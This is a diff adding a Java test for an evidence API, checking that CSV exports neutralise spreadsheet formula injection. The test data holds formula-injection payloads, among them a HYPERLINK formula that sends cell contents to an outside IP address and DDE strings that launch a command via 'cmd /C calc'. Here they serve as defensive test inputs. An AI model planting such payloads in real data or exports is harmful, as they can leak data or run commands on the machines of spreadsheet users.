@@ -127,6 +127,84 @@ class EvidenceApiTest {
     }
   }
 
+  /**
+   * Names people typed that a spreadsheet would run as formulas (issue 17) reach the CSV as text: a
+   * leading single quote, the cell quoted; negative numbers stay numbers.
+   */
+  @Test
+  void csvCellsThatLookLikeFormulasAreNeutralised() throws Exception {
+    java.util.List<String> names =
+        java.util.List.of(
+            "=HYPERLINK(\"http://198.51.100.7/?leak=\"&A1,\"Ver detalle\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1");
+    for (int i = 0; i < names.size(); i++) {
+      Api.Response e =
+          APP.it()
+              .post(
+                  "/api/v1/establishments",
+                  Api.object()
+                      .put("code", "formula-" + i)
+                      .put("name", names.get(i))
+                      .put("kind", "library")
+                      .put("sector", "citizens"));
+      assertThat(e.status()).as(e.toString()).isEqualTo(201);
+      Api.Response l =
+          APP.it()
+              .post(
+                  "/api/v1/establishments/formula-" + i + "/links",
+                  Api.object()
+                      .put("ispName", names.get(i))
+                      .put("technology", names.get(names.size() - 1 - i))
+                      .put("contractedDownMbps", 10)
+                      .put("contractedUpMbps", 2));
+      assertThat(l.status()).as(l.toString()).isEqualTo(201);
+    }
+    for (EvidenceText.Lang lang : EvidenceText.Lang.values()) {
+      Api.Response r = reader.get("/api/v1/evidence?period=2026-03&format=csv&lang=" + lang.code());
+      assertThat(r.status()).as(r.toString()).isEqualTo(200);
+      byte[] body = r.raw().body();
+      String text = new String(body, StandardCharsets.UTF_8);
+      java.util.Set<String> seen = new java.util.HashSet<>();
+      try (CSVParser p =
+          EvidenceCsv.format(lang)
+              .builder()
+              .setHeader()
+              .setSkipHeaderRecord(true)
+              .get()
+              .parse(
+                  new InputStreamReader(
+                      new ByteArrayInputStream(body, 3, body.length - 3),
+                      StandardCharsets.UTF_8))) {
+        for (var rec : p.getRecords()) {
+          for (String cell : rec.values()) {
+            // No cell a spreadsheet would evaluate.
+            assertThat(cell).as(lang + " cell").doesNotContainPattern("^[=+@\t\r]");
+            if (cell.startsWith("-")) {
+              assertThat(cell).as(lang + " cell").matches("-[0-9]+([.,][0-9]+)?");
+            }
+            if (cell.startsWith("'")) {
+              seen.add(cell.substring(1));
+            }
+          }
+        }
+      }
+      assertThat(seen).as(lang.code()).containsAll(names);
+      // Written quoted, the quote first inside: '=HYPERLINK(... never begins a bare cell.
+      assertThat(text).contains("\"'=HYPERLINK(", "\"'@SUM(", "\"'+cmd", "\"'-2+3");
+    }
+    // Numbers, negative ones included, are left as they are, in both decimal styles.
+    for (String n : java.util.List.of("-12,5", "-3", "-0.25", "12", "0", "sin datos", "")) {
+      assertThat(EvidenceCsv.neutralised(n)).isEqualTo(n);
+    }
+    assertThat(EvidenceCsv.neutralised("-")).isEqualTo("'-");
+    assertThat(EvidenceCsv.neutralised("-1-1")).isEqualTo("'-1-1");
+    assertThat(EvidenceCsv.neutralised("--1")).isEqualTo("'--1");
+  }
+
   @Test
   void htmlInline() {
     Api.Response r = reader.get("/api/v1/evidence?period=2026-03");
